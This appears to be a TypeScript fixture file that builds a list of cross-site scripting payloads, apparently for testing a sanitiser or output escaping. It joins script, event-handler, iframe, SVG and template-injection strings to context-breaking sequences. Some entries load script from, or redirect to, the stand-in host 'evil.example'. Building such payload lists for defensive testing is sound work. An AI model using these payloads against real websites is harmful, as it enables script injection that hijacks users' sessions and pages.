/** Payloads that run when parsed as markup. */
const MARKUP: readonly string[] = [
  ...[
    '<script>ran()</script>',
    '<ScRiPt>ran()</sCrIpT>',
    '<script src=//evil.example/x.js></script>',
    '<script/x>ran()</script>',
  ],
  ...[
    '<img src=x onerror=ran()>',
    '<svg onload=ran()>',
    '<svg><script>ran()</script></svg>',
    '<svg/onload=ran()//',
  ],
  ...[
    '<iframe srcdoc="<script>parent.ran()</script>">',
    '<iframe src=javascript:parent.ran()>',
    '<object data=javascript:ran()>',
  ],
  ...[
    '<details open ontoggle=ran()>',
    '<input autofocus onfocus=ran()>',
    '<video><source onerror=ran()></video>',
  ],
  ...[
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content=0;url=//evil.example>',
    '<style>@import "//evil.example"</style>',
  ],
  ...[
    '<a href=javascript:ran() autofocus onfocus=ran()>x</a>',
    '<template><script>ran()</script></template>',
  ],
  ...[
    '<math><mtext><mglyph><style><img src onerror=ran()></style>',
    '<form action=javascript:ran()><button autofocus>',
  ],
];

/** Sequences that end the context of a text. */
const ENDS: readonly string[] = [
  ...[
    '',
    '">',
    "'>",
    '</script>',
    '</title>',
    '</textarea>',
    '</style>',
    '-->',
    ']]>',
    '</noscript>',
    '</select>',
  ],
  ...['\\"}', '<!--<script>', '\u2028', '&quot;>'],
];

/** Payloads without an element of their own: in attributes, addresses, scripts and templates. */
const OTHERS: readonly string[] = [
  ...[
    '" onmouseover="ran()" x="',
    "' onfocus='ran()' autofocus '",
    '" autofocus onfocus=ran() "',
    '`onload=ran()`',
  ],
  ...[
    'javascript:ran()',
    'JaVaScRiPt:ran()',
    'java\tscript:ran()',
    'data:text/html,<script>ran()</script>',
    'vbscript:ran()',
  ],
  ...[
    '";ran();//',
    "';ran();//",
    '\\";ran();//',
    '"});ran();({"x":"',
    '\\u003cscript>ran()\\u003c/script>',
    '</script\u0020>',
  ],
  ...[
    '{{constructor.constructor("ran()")()}}',
    '${ran()}',
    '#{ran()}',
    '<%= ran() %>',
    '{ran()}',
    '{x, select, other {<script>ran()</script>}}',
  ],
  ...[
    '&lt;script&gt;ran()&lt;/script&gt;',
    '&#60;script&#62;ran()&#60;/script&#62;',
    '%3Cscript%3Eran()%3C/script%3E',
    '+ADw-script+AD4-ran()',
  ],
  ...[
    '<b>bold</b>',
    '<ran()>',
    '<x onclick=ran() contenteditable autofocus onfocus=ran()>',
    '__proto__',
    'constructor',
  ],
];

/** Every payload: each piece of markup after each context end, and those that need none. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP.flatMap((markup) => ENDS.map((end) => end + markup)),
  ...OTHERS,
];
